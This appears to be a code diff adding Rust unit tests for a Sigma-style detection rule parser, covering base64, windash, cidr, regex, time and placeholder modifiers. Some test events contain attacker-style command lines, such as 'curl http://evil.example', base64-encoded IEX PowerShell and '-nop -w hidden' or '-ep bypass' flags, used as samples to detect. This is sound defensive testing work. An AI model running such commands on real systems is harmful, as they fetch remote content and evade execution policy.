+        // The literal value no longer matches
+        let event = serde_json::json!({"CommandLine": "curl http://evil.example"});
+        assert!(!matches(&branch, event).await);
+
+        // PowerShell -EncodedCommand payloads are base64 of UTF-16LE text
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|wide|base64|contains": "IEX"
+        }))
+        .await;
+        let event = serde_json::json!({"CommandLine": "powershell -enc SQBFAFgA"});
+        assert!(matches(&branch, event).await);
+
+        // Each value expands separately under |all
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|base64offset|contains|all": ["whoami", "hostname"]
+        }))
+        .await;
+        let both = encode("whoami; hostname");
+        let one = encode("whoami; uname");
+        assert!(matches(&branch, serde_json::json!({"CommandLine": both})).await);
+        assert!(!matches(&branch, serde_json::json!({"CommandLine": one})).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_cidr_modifier() {
+        let branch = parse_selection(serde_json::json!({
+            "DestinationIp|cidr": ["10.0.0.0/8", "fd00::/8"]
+        }))
+        .await;
+
+        for ip in ["10.1.2.3", "fd00::beef"] {
+            assert!(matches(&branch, serde_json::json!({"DestinationIp": ip})).await);
+        }
+        for ip in ["8.8.8.8", "fe80::1", "unknown", ""] {
+            assert!(!matches(&branch, serde_json::json!({"DestinationIp": ip})).await);
+        }
+
+        // Invalid networks are rule errors
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"DestinationIp|cidr": "10.0.0.0/40"}),
+        );
+        assert!(Parser::new(detection, false).run().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_comparison_modifiers() {
+        let branch = parse_selection(serde_json::json!({
+            "LogonCount|gte": 5,
+            "BytesSent|gt": "1.5",
+            "DestinationPort|lt|all": [49152, 65536]
+        }))
+        .await;
+
+        let event = |count: serde_json::Value, bytes: serde_json::Value, port: u32| serde_json::json!({"LogonCount": count, "BytesSent": bytes, "DestinationPort": port});
+        assert!(matches(&branch, event(5.into(), 1.6.into(), 443)).await);
+        assert!(matches(&branch, event("12".into(), "2".into(), 8080)).await);
+        assert!(!matches(&branch, event(4.into(), 1.6.into(), 443)).await);
+        assert!(!matches(&branch, event(5.into(), 1.5.into(), 443)).await);
+        assert!(!matches(&branch, event(5.into(), 1.6.into(), 50000)).await);
+        assert!(!matches(&branch, event("many".into(), 1.6.into(), 443)).await);
+
+        // Comparison values must be numeric
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"LogonCount|gt": "lots"}),
+        );
+        assert!(Parser::new(detection, false).run().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_parser_float_equality() {
+        let branch = parse_selection(serde_json::json!({"Size": 1.5})).await;
+        assert!(matches(&branch, serde_json::json!({"Size": 1.5})).await);
+        assert!(matches(&branch, serde_json::json!({"Size": "1.50"})).await);
+        assert!(matches(&branch, serde_json::json!({"Size": "1.5e0"})).await);
+        assert!(!matches(&branch, serde_json::json!({"Size": 1.6})).await);
+        assert!(!matches(&branch, serde_json::json!({"Size": 1})).await);
+        assert!(!matches(&branch, serde_json::json!({"Size": "big"})).await);
+
+        let branch = parse_selection(serde_json::json!({"Size": [0.25, 2.0]})).await;
+        assert!(matches(&branch, serde_json::json!({"Size": "0.250"})).await);
+        assert!(matches(&branch, serde_json::json!({"Size": 2})).await);
+        assert!(!matches(&branch, serde_json::json!({"Size": 1.5})).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_case_sensitivity_modifiers() {
+        let branch = parse_selection(serde_json::json!({
+            "Image|endswith": "\\powershell.exe",
+            "CommandLine|contains": "-enc"
+        }))
+        .await;
+        let event = serde_json::json!({
+            "Image": "C:\\Windows\\PowerShell.EXE",
+            "CommandLine": "powershell -EncodedCommand ..."
+        });
+        assert!(matches(&branch, event).await);
+
+        let branch = parse_selection(serde_json::json!({"User|cased": "SYSTEM"})).await;
+        assert!(matches(&branch, serde_json::json!({"User": "SYSTEM"})).await);
+        assert!(!matches(&branch, serde_json::json!({"User": "system"})).await);
+
+        // Regular expressions stay case-sensitive unless |i is given
+        let branch = parse_selection(serde_json::json!({"Image|re": "cmd\\.exe$"})).await;
+        assert!(!matches(&branch, serde_json::json!({"Image": "CMD.EXE"})).await);
+        let branch = parse_selection(serde_json::json!({"Image|re|i": "cmd\\.exe$"})).await;
+        assert!(matches(&branch, serde_json::json!({"Image": "CMD.EXE"})).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_null_and_exists_semantics() {
+        let branch = parse_selection(serde_json::json!({"ParentImage": null})).await;
+        assert!(matches(&branch, serde_json::json!({"Image": "a.exe"})).await);
+        assert!(matches(&branch, serde_json::json!({"ParentImage": null})).await);
+        assert!(!matches(&branch, serde_json::json!({"ParentImage": ""})).await);
+
+        let branch = parse_selection(serde_json::json!({"ParentImage": ""})).await;
+        assert!(matches(&branch, serde_json::json!({"ParentImage": ""})).await);
+        assert!(!matches(&branch, serde_json::json!({"Image": "a.exe"})).await);
+        assert!(!matches(&branch, serde_json::json!({"ParentImage": null})).await);
+
+        let branch = parse_selection(serde_json::json!({"ParentImage": ["", null]})).await;
+        assert!(matches(&branch, serde_json::json!({"ParentImage": ""})).await);
+        assert!(matches(&branch, serde_json::json!({})).await);
+        assert!(!matches(&branch, serde_json::json!({"ParentImage": "x"})).await);
+
+        let branch = parse_selection(serde_json::json!({"User|exists": true})).await;
+        let result = branch
+            .matches(&crate::event::DynamicEvent::new(serde_json::json!({})))
+            .await;
+        assert_eq!(result, crate::ast::MatchResult::not_matched());
+        assert!(matches(&branch, serde_json::json!({"User": "bob"})).await);
+
+        let branch = parse_selection(serde_json::json!({"User|exists": false})).await;
+        assert!(matches(&branch, serde_json::json!({"Image": "a.exe"})).await);
+        assert!(!matches(&branch, serde_json::json!({"User": ""})).await);
+
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"User|exists": "maybe"}),
+        );
+        assert!(Parser::new(detection, false).run().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_parser_not_on_missing_field() {
+        let mut detection = Detection::new();
+        detection.insert(
+            "condition".to_string(),
+            serde_json::json!("selection and not filter"),
+        );
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"Image|endswith": "\\cmd.exe"}),
+        );
+        detection.insert(
+            "filter".to_string(),
+            serde_json::json!({"ParentImage|endswith": "\\explorer.exe"}),
+        );
+        let mut parser = Parser::new(detection, false);
+        parser.run().await.unwrap();
+        let branch = parser.result().unwrap();
+
+        // The filter field is absent, so the filter cannot exclude the event
+        let result = branch
+            .matches(&crate::event::DynamicEvent::new(
+                serde_json::json!({"Image": "C:\\Windows\\cmd.exe"}),
+            ))
+            .await;
+        assert_eq!(result, crate::ast::MatchResult::matched());
+
+        let event = serde_json::json!({
+            "Image": "C:\\Windows\\cmd.exe",
+            "ParentImage": "C:\\Windows\\explorer.exe"
+        });
+        assert!(!matches(&branch, event).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_windash_modifier() {
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|windash|contains": " -enc "
+        }))
+        .await;
+        for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
+            let event = serde_json::json!({"CommandLine": format!("powershell {}ENC abc", dash)});
+            assert!(matches(&branch, event).await, "dash {}", dash);
+        }
+        let event = serde_json::json!({"CommandLine": "powershell +enc abc"});
+        assert!(!matches(&branch, event).await);
+
+        // Each value must match one of its variants under |all
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|windash|contains|all": ["-s", "-ep bypass"]
+        }))
+        .await;
+        let event = serde_json::json!({"CommandLine": "powershell /s \u{2013}ep Bypass"});
+        assert!(matches(&branch, event).await);
+        let event = serde_json::json!({"CommandLine": "powershell /s"});
+        assert!(!matches(&branch, event).await);
+
+        // Too many flags to expand fail the rule instead of exhausting memory
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"CommandLine|windash|contains": "-a -b -c -d -e -f -g"}),
+        );
+        assert!(Parser::new(detection, false).run().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_fieldref_modifier() {
+        let branch = parse_selection(serde_json::json!({"ParentImage|fieldref": "Image"})).await;
+        let event = serde_json::json!({"Image": "C:\\a.exe", "ParentImage": "c:\\A.exe"});
+        assert!(matches(&branch, event).await);
+        let event = serde_json::json!({"Image": "C:\\a.exe", "ParentImage": "C:\\b.exe"});
+        assert!(!matches(&branch, event).await);
+        let event = serde_json::json!({"ParentImage": "C:\\b.exe"});
+        assert!(!matches(&branch, event).await);
+
+        let branch = parse_selection(serde_json::json!({
+            "TargetFilename|fieldref|startswith": "CurrentDirectory",
+            "CommandLine|fieldref|contains|all": ["User", "Host"]
+        }))
+        .await;
+        let event = serde_json::json!({
+            "TargetFilename": "C:\\Temp\\x.dll",
+            "CurrentDirectory": "C:\\Temp",
+            "CommandLine": "copy to \\\\srv01\\c$ as bob",
+            "User": "bob",
+            "Host": "srv01"
+        });
+        assert!(matches(&branch, event).await);
+
+        let event = serde_json::json!({
+            "TargetFilename": "C:\\Temp\\x.dll",
+            "CurrentDirectory": "C:\\Temp",
+            "CommandLine": "copy as bob",
+            "User": "bob",
+            "Host": "srv01"
+        });
+        assert!(!matches(&branch, event).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_regex_flags() {
+        let branch = parse_selection(serde_json::json!({
+            "ScriptBlockText|re|i|m": "^invoke-expression"
+        }))
+        .await;
+        let event = serde_json::json!({"ScriptBlockText": "$a = 1\nInvoke-Expression $a"});
+        assert!(matches(&branch, event).await);
+
+        let branch = parse_selection(serde_json::json!({
+            "ScriptBlockText|re|s": "begin.*end"
+        }))
+        .await;
+        let event = serde_json::json!({"ScriptBlockText": "begin\nend"});
+        assert!(matches(&branch, event).await);
+        let event = serde_json::json!({"ScriptBlockText": "BEGIN\nEND"});
+        assert!(!matches(&branch, event).await);
+
+        let branch = parse_selection(serde_json::json!({
+            "CommandLine|re|all": ["-nop", "-w\\s+hidden"]
+        }))
+        .await;
+        let event = serde_json::json!({"CommandLine": "powershell -nop -w  hidden"});
+        assert!(matches(&branch, event).await);
+        let event = serde_json::json!({"CommandLine": "powershell -nop"});
+        assert!(!matches(&branch, event).await);
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_time_parts() {
+        let branch = parse_selection(serde_json::json!({
+            "TimeCreated|hour|lt": 6,
+            "TimeCreated|day": [6, 7]
+        }))
+        .await;
+        let event = serde_json::json!({"TimeCreated": "2024-01-06T03:15:00Z"});
+        assert!(matches(&branch, event).await);
+        let event = serde_json::json!({"TimeCreated": "2024-01-06T08:15:00Z"});
+        assert!(!matches(&branch, event).await);
+        let event = serde_json::json!({"TimeCreated": "2024-01-08T03:15:00Z"});
+        assert!(!matches(&branch, event).await);
+
+        let branch = parse_selection(serde_json::json!({"EventTime|month|gte": "11"})).await;
+        // 2023-12-01T00:00:00Z as epoch seconds and milliseconds
+        assert!(matches(&branch, serde_json::json!({"EventTime": 1701388800})).await);
+        assert!(matches(&branch, serde_json::json!({"EventTime": 1701388800000i64})).await);
+        assert!(!matches(&branch, serde_json::json!({"EventTime": "not a time"})).await);
+
+        let detection: Detection = serde_json::from_value(serde_json::json!({
+            "selection": {"TimeCreated|hour": "midnight"},
+            "condition": "selection"
+        }))
+        .unwrap();
+        assert!(Parser::new(detection, false).run().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_strict_validation() {
+        async fn strict(detection: serde_json::Value) -> Result<(), StrictViolation> {
+            let detection: Detection = serde_json::from_value(detection).unwrap();
+            match Parser::new(detection, false).with_strict(true).run().await {
+                Ok(()) => Ok(()),
+                Err(ParseError::StrictValidation { violation, .. }) => Err(violation),
+                Err(e) => panic!("unexpected error: {}", e),
+            }
+        }
+
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": {"EventID": 1},
+                "filter": {"User": "SYSTEM"},
+                "condition": "selection"
+            }))
+            .await,
+            Err(StrictViolation::UnreferencedIdentifier {
+                identifier: "filter".to_string()
+            })
+        );
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": {"EventID": 1},
+                "condition": "selection and not filter_*"
+            }))
+            .await,
+            Err(StrictViolation::MissingIdentifier {
+                identifier: "filter_*".to_string()
+            })
+        );
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": [{"EventID": 1}, {"Image|endswith": []}],
+                "condition": "selection"
+            }))
+            .await,
+            Err(StrictViolation::EmptyValueList {
+                identifier: "selection".to_string(),
+                field: "Image|endswith".to_string()
+            })
+        );
+        assert_eq!(
+            strict(serde_json::json!({
+                "keywords": [],
+                "condition": "keywords"
+            }))
+            .await,
+            Err(StrictViolation::EmptyValueList {
+                identifier: "keywords".to_string(),
+                field: "keywords".to_string()
+            })
+        );
+
+        // Regex flags are only known after `|re`
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": {"CommandLine|contains|i": "whoami"},
+                "condition": "selection"
+            }))
+            .await,
+            Err(StrictViolation::UnknownModifier {
+                identifier: "selection".to_string(),
+                field: "CommandLine|contains|i".to_string(),
+                modifier: "i".to_string()
+            })
+        );
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": {"CommandLine|re|i|m": "^whoami"},
+                "condition": "selection"
+            }))
+            .await,
+            Ok(())
+        );
+
+        // Aggregation fields after the pipe are not search identifiers
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection_logon": {"EventID": 4625, "LogonTime|hour|lt": 6},
+                "selection_user": {"User|cased|startswith": "adm"},
+                "condition": "all of selection_* | count() by User > 5"
+            }))
+            .await,
+            Ok(())
+        );
+        assert_eq!(
+            strict(serde_json::json!({
+                "selection": {"EventID": 1},
+                "other": {"EventID": 2},
+                "condition": "1 of them"
+            }))
+            .await,
+            Ok(())
+        );
+    }
+
+    #[tokio::test]
+    async fn test_parser_with_placeholders() {
+        let mut placeholders = PlaceholderRegistry::new();
+        placeholders.insert("admin_users", ["root", "Administrator"]);
+        let placeholders = Arc::new(placeholders);
+
+        let mut detection = Detection::new();
+        detection.insert("condition".to_string(), serde_json::json!("selection"));
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"User|expand|startswith": "%admin_users%"}),
+        );
+
+        let mut parser =
+            Parser::new(detection.clone(), false).with_placeholders(placeholders.clone());
+        parser.run().await.unwrap();
+        let branch = parser.result().unwrap();
+        assert!(matches(&branch, serde_json::json!({"User": "administrator"})).await);
+        assert!(matches(&branch, serde_json::json!({"User": "root2"})).await);
+        assert!(!matches(&branch, serde_json::json!({"User": "guest"})).await);
+
+        // Without definitions the placeholder is unresolved
+        let mut undefined = Detection::new();
+        undefined.insert("condition".to_string(), serde_json::json!("selection"));
+        undefined.insert(
+            "selection".to_string(),
+            serde_json::json!({"User|expand": "%admin_users%"}),
+        );
+        assert_eq!(
+            Parser::new(undefined, false).run().await.unwrap_err(),
+            ParseError::unresolved_placeholder("User", "admin_users")
+        );
+
+        detection.insert(
+            "selection".to_string(),
+            serde_json::json!({"User|expand": "%domain_admins%"}),
+        );
+        let mut parser =
+            Parser::new(detection.clone(), false).with_placeholders(placeholders.clone());
+        assert_eq!(
+            parser.run().await.unwrap_err(),
+            ParseError::unresolved_placeholder("User", "domain_admins")
+        );
+
+        let placeholders = (*placeholders)
+            .clone()
+            .with_unresolved(UnresolvedPlaceholder::NoMatch);
+        let mut parser = Parser::new(detection, false).with_placeholders(Arc::new(placeholders));
+        parser.run().await.unwrap();
+        let branch = parser.result().unwrap();
+        assert!(!matches(&branch, serde_json::json!({"User": "root"})).await);
+    }
+
     #[tokio::test]
     async fn test_memory_limit() {
         // Create a complex condition with many OR terms that will generate many tokens